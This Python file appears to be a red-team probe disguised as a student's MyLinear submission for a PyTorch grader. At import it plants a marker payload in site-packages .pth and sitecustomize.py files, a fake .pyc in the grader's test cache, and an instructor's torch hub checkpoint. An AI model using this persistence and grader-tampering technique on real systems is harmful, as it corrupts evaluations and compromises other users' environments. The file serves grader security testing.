"""Attack: persistence through files that Python and torch load later."""
import os
import site
import sys

import torch
from torch import Tensor, nn

TOKEN = "__REDTEAM_TOKEN__"
payload = f"import sys; sys.stderr.write('owned by {TOKEN}\\n')\n"
targets = []
for folder in site.getsitepackages():
    targets += [(os.path.join(folder, "zz_redteam.pth"), payload), (os.path.join(folder, "sitecustomize.py"), payload)]
try:
    import grader

    cache = os.path.join(os.path.dirname(grader.__file__), "packs", "lesson", "my_linear", "__pycache__")
    tag = sys.implementation.cache_tag
    targets.append((os.path.join(cache, f"suite.{tag}-pytest-9.2.0.pyc"), "not really bytecode"))
except Exception as exc:
    print(f"grader: {exc}")
targets.append((os.path.join("__INSTRUCTOR_HOME__", ".cache", "torch", "hub", "checkpoints", "resnet18.pth"), payload))
for path, text in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(text)
        print(f"planted {path}")
    except OSError as exc:
        print(f"{path}: {exc}")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        raise NotImplementedError("MyLinear.__init__")

    def forward(self, x: Tensor) -> Tensor:
        raise NotImplementedError("MyLinear.forward")
